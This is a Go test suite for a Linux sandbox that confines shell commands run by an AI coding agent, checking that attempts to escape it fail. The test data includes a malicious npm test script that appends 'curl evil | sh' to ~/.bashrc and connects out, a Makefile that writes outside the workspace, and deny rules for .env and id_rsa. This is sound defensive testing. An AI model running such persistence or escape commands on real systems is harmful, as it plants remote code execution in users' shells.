//go:build linux

package sandbox_test

import (
	"bufio"
	"bytes"
	"crypto/sha256"
	"encoding/hex"
	"encoding/json"
	"fmt"
	"io"
	"io/fs"
	"net"
	"net/http"
	"net/http/httptest"
	"os"
	"os/exec"
	"path/filepath"
	"sort"
	"strings"
	"syscall"
	"testing"

	"github.com/gatehouse/gatehouse/internal/sandbox"
	"github.com/gatehouse/gatehouse/internal/testbin"
)

var bin string

func TestMain(m *testing.M) { testbin.Main(m, &bin) }

// needSandbox skips, saying why, when this machine cannot enforce the
// sandbox (CI installs bubblewrap, so there they run).
func needSandbox(t *testing.T) {
	t.Helper()
	if _, err := exec.LookPath("bwrap"); err != nil {
		t.Skip("bwrap (bubblewrap) is not installed: apt-get install bubblewrap to run the sandbox tests")
	}
	if m := sandbox.Missing(); len(m) > 0 {
		t.Skipf("this machine cannot enforce the sandbox: %s: %s", m[0].Name, m[0].Detail)
	}
}

const (
	secret      = "SECRET-VALUE-7f3a9"
	denySecret  = "PEM-SECRET-51c2"
	outSecret   = "OUT-SECRET-88d1"
	projectJSON = `{"permissions":{"deny":["Read(./.env)","Read(./secrets/**)","Read(id_rsa)","Read(//%s/private/**)"]}}`
)

// world is one fresh workspace with everything around it that an escape
// could reach: a directory outside, a home, listeners and a process.
type world struct {
	root, ws, out, home string
	env                 []string
	tcp                 net.Listener
	udp                 net.PacketConn
	unix, abstract      net.Listener
	sleep               *exec.Cmd
	accepted            chan string
}

func newWorld(t *testing.T, fixture string) *world {
	t.Helper()
	root := t.TempDir()
	w := &world{root: root, ws: filepath.Join(root, "ws"), out: filepath.Join(root, "out"), home: filepath.Join(root, "home")}
	files := map[string]string{
		"ws/.env":                    secret + "\n",
		"ws/file":                    "plain\n",
		"ws/secrets/key.pem":         denySecret + "\n",
		"ws/deep/er/id_rsa":          denySecret + "\n",
		"ws/src/main.txt":            "code\n",
		"out/existing":               "ORIG\n",
		"out/private/token":          outSecret + "\n",
		"home/.bashrc":               "# rc\n",
		"home/.claude/settings.json": `{}`,
	}
	if fixture != "bare" {
		for k, v := range map[string]string{
			"ws/.git/config":           "[core]\n",
			"ws/.git/hooks/README":     "hooks\n",
			"ws/.claude/settings.json": fmt.Sprintf(projectJSON, strings.TrimPrefix(filepath.Join(root, "out"), "/")),
			"ws/.vscode/settings.json": "{}\n",
			"ws/.mcp.json":             "{}\n",
			"ws/.envrc":                "export A=1\n",
			"ws/.husky/pre-commit":     "#!/bin/sh\n",
			"ws/.idea/misc.xml":        "<x/>\n",
			"ws/proj.code-workspace":   "{}\n",
			"ws/sub/.git/config":       "[core]\n",
		} {
			files[k] = v
		}
	} else {
		// No protected names; the deny rules come from the user's file.
		files["home/.claude/settings.json"] = fmt.Sprintf(projectJSON, strings.TrimPrefix(filepath.Join(root, "out"), "/"))
	}
	if fixture == "allow-home" {
		// The person made the whole home writable; their Claude Code
		// settings still are not.
		files["home/.claude/settings.json"] = `{"sandbox":{"filesystem":{"allowWrite":["~"]}}}`
		files["home/.claude.json"] = "{}\n"
	}
	for rel, content := range files {
		p := filepath.Join(root, rel)
		must(t, os.MkdirAll(filepath.Dir(p), 0o755))
		must(t, os.WriteFile(p, []byte(content), 0o644))
	}
	switch fixture {
	case "hardlink":
		must(t, os.Link(filepath.Join(w.ws, ".env"), filepath.Join(w.ws, "envcopy")))
	case "hardlink-outside":
		must(t, os.Link(filepath.Join(w.ws, ".env"), filepath.Join(w.out, "envlink")))
	}

	w.accepted = make(chan string, 16)
	var err error
	w.tcp, err = net.Listen("tcp", "127.0.0.1:0")
	must(t, err)
	w.udp, err = net.ListenPacket("udp", "127.0.0.1:0")
	must(t, err)
	sock := filepath.Join(root, "outside.sock")
	w.unix, err = net.Listen("unix", sock)
	must(t, err)
	abstract := "gatehouse-test-" + filepath.Base(root)
	w.abstract, err = net.Listen("unix", "@"+abstract)
	must(t, err)
	for _, l := range []net.Listener{w.tcp, w.unix, w.abstract} {
		go func(l net.Listener) {
			for {
				c, err := l.Accept()
				if err != nil {
					return
				}
				buf := make([]byte, 64)
				n, _ := c.Read(buf)
				w.accepted <- l.Addr().String() + " " + string(buf[:n])
				c.Close()
			}
		}(l)
	}
	w.sleep = exec.Command("sleep", "1000")
	must(t, w.sleep.Start())
	t.Cleanup(func() {
		w.sleep.Process.Kill()
		w.sleep.Wait()
		w.tcp.Close()
		w.udp.Close()
		w.unix.Close()
		w.abstract.Close()
	})
	w.env = append(cleanEnv(),
		"HOME="+w.home, "WS="+w.ws, "OUT="+w.out,
		"TCP_PORT="+portOf(w.tcp.Addr()), "UDP_PORT="+portOf(w.udp.LocalAddr()),
		"UNIX_SOCK="+sock, "ABSTRACT_SOCK="+abstract,
		fmt.Sprintf("SLEEP_PID=%d", w.sleep.Process.Pid),
		"CLAUDE_PROJECT_DIR="+w.ws, "XDG_STATE_HOME="+filepath.Join(root, "state"),
	)
	return w
}

// cleanEnv is the test's environment without what would change the
// sandbox's settings or reach the real home.
func cleanEnv() []string {
	var out []string
	for _, kv := range os.Environ() {
		k, _, _ := strings.Cut(kv, "=")
		switch k {
		case "HOME", "CLAUDE_PROJECT_DIR", "XDG_STATE_HOME", "XDG_CONFIG_HOME", "GATEHOUSE_SOCKET":
			continue
		}
		out = append(out, kv)
	}
	return out
}

func portOf(a net.Addr) string {
	_, p, _ := net.SplitHostPort(a.String())
	return p
}

func must(t *testing.T, err error) {
	t.Helper()
	if err != nil {
		t.Fatal(err)
	}
}

// snapshot hashes every file under dir (names, modes, contents).
func snapshot(t *testing.T, dir string) map[string]string {
	t.Helper()
	out := map[string]string{}
	filepath.WalkDir(dir, func(p string, d fs.DirEntry, err error) error {
		if err != nil {
			out[p] = "error " + err.Error()
			return nil
		}
		fi, err := os.Lstat(p)
		if err != nil {
			return nil
		}
		v := fi.Mode().String()
		if fi.Mode().IsRegular() {
			b, _ := os.ReadFile(p)
			s := sha256.Sum256(b)
			v += " " + hex.EncodeToString(s[:8])
		}
		if fi.Mode()&fs.ModeSymlink != 0 {
			l, _ := os.Readlink(p)
			v += " -> " + l
		}
		out[p] = v
		return nil
	})
	return out
}

// protectedSnapshot covers what must not change inside the workspace.
func (w *world) protectedSnapshot(t *testing.T) map[string]string {
	all := map[string]string{}
	for _, name := range []string{".git", ".claude", ".vscode", ".mcp.json", ".envrc", ".husky", ".idea", ".gatehouse", "proj.code-workspace", "sub/.git", ".env", "secrets"} {
		p := filepath.Join(w.ws, name)
		if _, err := os.Lstat(p); err != nil {
			all[p] = "absent"
			continue
		}
		for k, v := range snapshot(t, p) {
			all[k] = v
		}
	}
	return all
}

func (w *world) outsideSnapshot(t *testing.T) map[string]string {
	all := snapshot(t, w.out)
	for k, v := range snapshot(t, w.home) {
		all[k] = v
	}
	return all
}

func diff(before, after map[string]string) []string {
	var out []string
	for k, v := range before {
		if after[k] != v {
			out = append(out, fmt.Sprintf("%s: %q -> %q", k, v, after[k]))
		}
	}
	for k, v := range after {
		if _, ok := before[k]; !ok {
			out = append(out, fmt.Sprintf("%s: new (%q)", k, v))
		}
	}
	sort.Strings(out)
	return out
}

func (w *world) run(t *testing.T, args ...string) (int, string) {
	t.Helper()
	cmd := exec.Command(bin, append([]string{"sandbox", "--workspace", w.ws, "--"}, args...)...)
	cmd.Dir = w.ws
	cmd.Env = w.env
	var out bytes.Buffer
	cmd.Stdout, cmd.Stderr = &out, &out
	err := cmd.Run()
	code := 0
	if err != nil {
		ee, ok := err.(*exec.ExitError)
		if !ok {
			t.Fatalf("run gatehouse sandbox: %v", err)
		}
		code = ee.ExitCode()
	}
	return code, out.String()
}

// checkNothingReached: the listeners outside got nothing and the process
// outside lives. Ordering, not time, proves absence: after the sandbox has
// exited the test sends its own marker, which must be the first thing each
// listener sees.
func (w *world) checkNothingReached(t *testing.T) {
	t.Helper()
	for _, addr := range []struct{ network, addr string }{
		{"tcp", w.tcp.Addr().String()}, {"unix", w.unix.Addr().String()}, {"unix", "@" + strings.TrimPrefix(w.abstract.Addr().String(), "@")},
	} {
		c, err := net.Dial(addr.network, addr.addr)
		if err != nil {
			t.Fatalf("dial %s: %v", addr.addr, err)
		}
		c.Write([]byte("marker"))
		c.Close()
		if got := <-w.accepted; !strings.HasSuffix(got, " marker") {
			t.Errorf("a listener outside was reached from inside the sandbox: %q", got)
		}
	}
	c, err := net.Dial("udp", w.udp.LocalAddr().String())
	must(t, err)
	c.Write([]byte("marker"))
	c.Close()
	buf := make([]byte, 64)
	n, _, err := w.udp.ReadFrom(buf)
	must(t, err)
	if string(buf[:n]) != "marker" {
		t.Errorf("the UDP listener outside received %q from inside the sandbox", buf[:n])
	}
	stat, err := os.ReadFile(fmt.Sprintf("/proc/%d/stat", w.sleep.Process.Pid))
	if err != nil {
		t.Errorf("the process outside is gone: %v", err)
	} else if f := strings.Fields(string(stat)); len(f) > 2 && (f[2] == "Z" || f[2] == "X") {
		t.Errorf("the process outside was killed from inside the sandbox (state %s)", f[2])
	}
}

type escapeCase struct {
	name, fixture, want, script string
}

func readCases(t *testing.T) []escapeCase {
	t.Helper()
	f, err := os.Open("../../testdata/sandbox/escapes.txt")
	must(t, err)
	defer f.Close()
	var out []escapeCase
	sc := bufio.NewScanner(f)
	for sc.Scan() {
		line := sc.Text()
		if line == "" || strings.HasPrefix(line, "#") {
			continue
		}
		cols := strings.SplitN(line, "\t", 4)
		if len(cols) != 4 {
			t.Fatalf("escapes.txt: want 4 tab-separated columns: %q", line)
		}
		out = append(out, escapeCase{cols[0], cols[1], cols[2], cols[3]})
	}
	return out
}

func TestEscapes(t *testing.T) {
	needSandbox(t)
	for _, c := range readCases(t) {
		t.Run(c.name, func(t *testing.T) {
			// A missing tool would make an escape "fail" for the wrong
			// reason: skip the case, saying so.
			for _, tool := range []string{"python3", "perl", "curl", "strace", "make", "git", "truncate", "unshare"} {
				if strings.Contains(c.script, tool) {
					if _, err := exec.LookPath(tool); err != nil {
						t.Skipf("%s is not installed (extension/scripts/install-tools.sh installs it)", tool)
					}
				}
			}
			w := newWorld(t, c.fixture)
			outBefore, protBefore := w.outsideSnapshot(t), w.protectedSnapshot(t)
			code, out := w.run(t, "sh", "-c", c.script)
			switch c.want {
			case "fail":
				if code == 0 {
					t.Errorf("the script succeeded inside the sandbox; output:\n%s", out)
				}
			case "ok":
				if code != 0 {
					t.Errorf("ordinary work failed inside the sandbox (exit %d); output:\n%s", code, out)
				}
			case "refuse":
				if code != sandbox.ExitSetup || !strings.Contains(out, "refusing to run") {
					t.Errorf("want a refusal (exit %d), got exit %d; output:\n%s", sandbox.ExitSetup, code, out)
				}
			}
			if code == sandbox.ExitSetup && c.want != "refuse" {
				t.Errorf("the sandbox did not run the script; output:\n%s", out)
			}
			for _, s := range []string{secret, denySecret, outSecret} {
				if strings.Contains(out, s) {
					t.Errorf("a denied file was read inside the sandbox; output:\n%s", out)
				}
			}
			if d := diff(outBefore, w.outsideSnapshot(t)); len(d) > 0 {
				t.Errorf("files outside the workspace changed:\n%s\noutput:\n%s", strings.Join(d, "\n"), out)
			}
			if d := diff(protBefore, w.protectedSnapshot(t)); len(d) > 0 {
				t.Errorf("protected or denied files changed:\n%s\noutput:\n%s", strings.Join(d, "\n"), out)
			}
			w.checkNothingReached(t)
		})
	}
}

func TestExitStatus(t *testing.T) {
	needSandbox(t)
	w := newWorld(t, "default")
	for _, want := range []int{0, 1, 42} {
		if code, out := w.run(t, "sh", "-c", fmt.Sprintf("exit %d", want)); code != want {
			t.Errorf("exit %d: got %d; output:\n%s", want, code, out)
		}
	}
	// Killed by a signal: the shell's 128+n.
	if code, out := w.run(t, "sh", "-c", "kill -TERM $$"); code != 128+int(syscall.SIGTERM) {
		t.Errorf("killed by SIGTERM: got %d, want %d; output:\n%s", code, 128+int(syscall.SIGTERM), out)
	}
	if code, out := w.run(t, "no-such-program-gatehouse"); code != 127 {
		t.Errorf("missing program: got %d, want 127; output:\n%s", code, out)
	}
}

func TestPlaceholdersRemoved(t *testing.T) {
	needSandbox(t)
	w := newWorld(t, "bare")
	before := snapshot(t, w.ws)
	if code, out := w.run(t, "sh", "-c", "ls -a"); code != 0 {
		t.Fatalf("exit %d: %s", code, out)
	}
	if d := diff(before, snapshot(t, w.ws)); len(d) > 0 {
		t.Errorf("the run left placeholders behind:\n%s", strings.Join(d, "\n"))
	}
}

func TestGoBuild(t *testing.T) {
	needSandbox(t)
	if testing.Short() {
		t.Skip("builds the Go runtime from a cold cache inside the sandbox (seconds); skipped with -short")
	}
	goBin, err := exec.LookPath("go")
	if err != nil {
		t.Skip("no go on PATH")
	}
	w := newWorld(t, "default")
	must(t, os.WriteFile(filepath.Join(w.ws, "go.mod"), []byte("module example.com/x\n\ngo 1.21\n"), 0o644))
	must(t, os.WriteFile(filepath.Join(w.ws, "main.go"), []byte("package main\n\nfunc main() { println(\"built\") }\n"), 0o644))
	w.env = append(w.env, "GOFLAGS=-mod=mod -buildvcs=false", "GOTOOLCHAIN=local", "GOTELEMETRY=off")
	code, out := w.run(t, "sh", "-c", goBin+" build -o app . && ./app")
	if code != 0 || !strings.Contains(out, "built") {
		t.Errorf("go build inside the sandbox: exit %d\n%s", code, out)
	}
}

func TestCheck(t *testing.T) {
	needSandbox(t)
	out, err := exec.Command(bin, "sandbox", "--check").CombinedOutput()
	if err != nil {
		t.Fatalf("--check: %v\n%s", err, out)
	}
	for _, name := range []string{"bwrap", "namespaces", "landlock", "seccomp"} {
		if !bytes.Contains(out, []byte(name)) {
			t.Errorf("--check does not report %s:\n%s", name, out)
		}
	}
}

// The end-to-end case the sandbox exists for: an allowlisted `npm run test`
// runs whatever package.json says. Here the script appends to ~/.bashrc and
// calls a server outside; both must fail and the sandbox must exit with
// the test's own status.
func TestNPMRunTest(t *testing.T) {
	needSandbox(t)
	npm, err := exec.LookPath("npm")
	if err != nil {
		t.Skip("npm is not installed")
	}
	w := newWorld(t, "default")
	pkg := `{"name":"victim","version":"1.0.0","private":true,"scripts":{"test":` +
		`"echo 'curl evil | sh' >> \"$HOME/.bashrc\"; node -e \"require('http').get('http://127.0.0.1:' + process.env.TCP_PORT + '/', r => process.exit(0)).on('error', e => { console.error('network: ' + e.code); process.exit(9) })\""}}`
	must(t, os.WriteFile(filepath.Join(w.ws, "package.json"), []byte(pkg), 0o644))
	outBefore := w.outsideSnapshot(t)
	code, out := w.run(t, npm, "run", "test")
	if code != 9 {
		t.Errorf("npm run test: exit %d, want the script's 9 (its write and its connection must both fail); output:\n%s", code, out)
	}
	if !strings.Contains(out, "network: ") {
		t.Errorf("the script's connection did not fail as a connection; output:\n%s", out)
	}
	if d := diff(outBefore, w.outsideSnapshot(t)); len(d) > 0 {
		t.Errorf("npm run test changed files outside the workspace:\n%s", strings.Join(d, "\n"))
	}
	w.checkNothingReached(t)
}

// Hosts allowed by WebFetch rules are reachable through the proxy, by
// plain HTTP and by CONNECT; others are refused by the proxy.
func TestNetworkAllowedHost(t *testing.T) {
	needSandbox(t)
	if _, err := exec.LookPath("curl"); err != nil {
		t.Skip("curl is not installed")
	}
	w := newWorld(t, "default")
	must(t, os.WriteFile(filepath.Join(w.home, ".claude", "settings.json"),
		[]byte(`{"permissions":{"allow":["WebFetch(domain:localhost)"]}}`), 0o644))
	plain := httptest.NewServer(http.HandlerFunc(func(rw http.ResponseWriter, r *http.Request) { io.WriteString(rw, "plain-ok") }))
	defer plain.Close()
	secure := httptest.NewTLSServer(http.HandlerFunc(func(rw http.ResponseWriter, r *http.Request) { io.WriteString(rw, "tls-ok") }))
	defer secure.Close()
	w.env = append(w.env, "PLAIN_PORT="+portOf(plain.Listener.Addr()), "TLS_PORT="+portOf(secure.Listener.Addr()))
	code, out := w.run(t, "sh", "-c", `curl -sS --max-time 30 "http://localhost:$PLAIN_PORT/" && echo && curl -sSk --max-time 30 "https://localhost:$TLS_PORT/"`)
	if code != 0 || !strings.Contains(out, "plain-ok") || !strings.Contains(out, "tls-ok") {
		t.Errorf("allowed host through the proxy: exit %d\n%s", code, out)
	}
	for _, u := range []string{"http://127.0.0.1:$PLAIN_PORT/", "https://127.0.0.1:$TLS_PORT/", "http://example.invalid/"} {
		code, out := w.run(t, "sh", "-c", `curl -fsSk --max-time 30 "`+u+`"`)
		if code == 0 || strings.Contains(out, "-ok") {
			t.Errorf("%s is not allowed but was reached: exit %d\n%s", u, code, out)
		}
	}
	w.checkNothingReached(t)
}

// A cover is a bind mount on a name, which the kernel lifts when the name
// is replaced outside (an editor saving .env by rename): the sandbox must
// stop rather than run on with the new file readable.
func TestCoverReplacedStopsSandbox(t *testing.T) {
	needSandbox(t)
	w := newWorld(t, "default")
	cmd := exec.Command(bin, "sandbox", "--workspace", w.ws, "--", "sh", "-c", "echo ready; exec sleep 120")
	cmd.Dir, cmd.Env = w.ws, w.env
	var stderr bytes.Buffer
	cmd.Stderr = &stderr
	out, err := cmd.StdoutPipe()
	must(t, err)
	must(t, cmd.Start())
	line, err := bufio.NewReader(out).ReadString('\n')
	if err != nil || line != "ready\n" {
		cmd.Process.Kill()
		t.Fatalf("sandbox did not start: %q %v\n%s", line, err, stderr.String())
	}
	tmp := filepath.Join(w.ws, ".env.new")
	must(t, os.WriteFile(tmp, []byte("NEW-"+secret+"\n"), 0o600))
	must(t, os.Rename(tmp, filepath.Join(w.ws, ".env")))
	err = cmd.Wait()
	ee, ok := err.(*exec.ExitError)
	if !ok || ee.ExitCode() != sandbox.ExitSetup || !strings.Contains(stderr.String(), "replaced") {
		t.Errorf("replacing .env outside did not stop the sandbox: %v\n%s", err, stderr.String())
	}
}

// Descriptors the caller leaves open must not reach into the sandbox: a
// connected socket to a service outside would be a way out.
func TestInheritedDescriptors(t *testing.T) {
	needSandbox(t)
	if _, err := exec.LookPath("python3"); err != nil {
		t.Skip("python3 is not installed")
	}
	w := newWorld(t, "default")
	conn, err := net.Dial("unix", w.unix.Addr().String())
	must(t, err)
	f, err := conn.(*net.UnixConn).File()
	must(t, err)
	cmd := exec.Command(bin, "sandbox", "--workspace", w.ws, "--", "python3", "-c",
		`import socket; socket.socket(fileno=7).send(b"leaked")`)
	cmd.Dir, cmd.Env = w.ws, w.env
	// fd 7 in gatehouse, not close-on-exec (3 is where bwrap's status pipe goes).
	cmd.ExtraFiles = []*os.File{nil, nil, nil, nil, f}
	out, err := cmd.CombinedOutput()
	if err == nil {
		t.Errorf("the inherited socket was usable inside the sandbox:\n%s", out)
	}
	f.Close()
	conn.Close()
	if got := <-w.accepted; got != w.unix.Addr().String()+" " {
		t.Errorf("the service outside received %q through an inherited descriptor", got)
	}
	w.checkNothingReached(t)
}

// The flow end to end: the hook allows a Bash call with sandbox.enabled,
// its updatedInput runs the line under the sandbox, and running that
// command as Claude Code would (bash -c) keeps the line confined.
func TestHookWrapsIntoSandbox(t *testing.T) {
	needSandbox(t)
	w := newWorld(t, "default")
	must(t, os.WriteFile(filepath.Join(w.home, ".claude", "settings.json"),
		[]byte(`{"permissions":{"allow":["Bash(make:*)"]},"sandbox":{"enabled":true}}`), 0o644))
	// An allowlisted tool running code by its nature: the policy allows
	// `make`, and the Makefile writes outside.
	must(t, os.WriteFile(filepath.Join(w.ws, "Makefile"), []byte("all:\n\techo inside > made.txt\n\techo escaped >> $(OUT)/existing\n"), 0o644))
	line := `make`
	payload, _ := json.Marshal(map[string]any{
		"session_id": "s", "transcript_path": filepath.Join(w.home, "t.jsonl"), "cwd": w.ws,
		"permission_mode": "default", "hook_event_name": "PreToolUse", "tool_name": "Bash",
		"tool_input": map[string]any{"command": line, "description": "build"},
	})
	hook := exec.Command(bin, "hook")
	hook.Dir, hook.Env = w.ws, w.env
	hook.Stdin = bytes.NewReader(payload)
	out, err := hook.Output()
	if err != nil {
		t.Fatalf("hook: %v\n%s", err, out)
	}
	var ans struct {
		HookSpecificOutput struct {
			PermissionDecision string
			UpdatedInput       struct{ Command, Description string }
		}
	}
	must(t, json.Unmarshal(out, &ans))
	o := ans.HookSpecificOutput
	if o.PermissionDecision != "allow" || !strings.Contains(o.UpdatedInput.Command, " sandbox ") || o.UpdatedInput.Description != "build" {
		t.Fatalf("hook answer: %s", out)
	}
	outBefore := w.outsideSnapshot(t)
	run := exec.Command("bash", "-c", o.UpdatedInput.Command)
	run.Dir, run.Env = w.ws, w.env
	res, err := run.CombinedOutput()
	if err == nil {
		t.Errorf("the write outside succeeded under the wrapped command:\n%s", res)
	}
	if b, err := os.ReadFile(filepath.Join(w.ws, "made.txt")); err != nil || string(b) != "inside\n" {
		t.Errorf("the write inside did not happen (%v): %q\n%s", err, b, res)
	}
	if d := diff(outBefore, w.outsideSnapshot(t)); len(d) > 0 {
		t.Errorf("the wrapped command changed files outside:\n%s", strings.Join(d, "\n"))
	}
}
